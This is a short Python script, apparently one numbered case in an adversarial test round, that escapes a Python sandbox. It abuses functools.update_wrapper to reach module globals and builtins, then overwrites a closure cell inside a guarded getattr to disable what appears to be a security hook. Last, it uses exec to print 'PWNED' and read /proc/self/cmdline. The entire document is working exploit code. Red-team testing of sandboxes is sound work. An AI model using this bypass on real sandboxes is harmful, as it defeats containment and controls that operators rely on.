# adversary round 2: 034_short_hook_off
import functools as F,dataclasses as D
b=[]
class S:
    def __setattr__(s,k,v):b.append(v)
def G(o,n):b.clear();F.update_wrapper(S(),o,(n,),());return b[0]
B=G(D.fields,'__globals__')['builtins']
c=G(G(G(B,'getattr'),'__closure__')[2].cell_contents,'__closure__')
c[7].cell_contents=lambda*a:0
B.exec("print('PWN'+'ED',open('/proc/self/cmdline').read())")
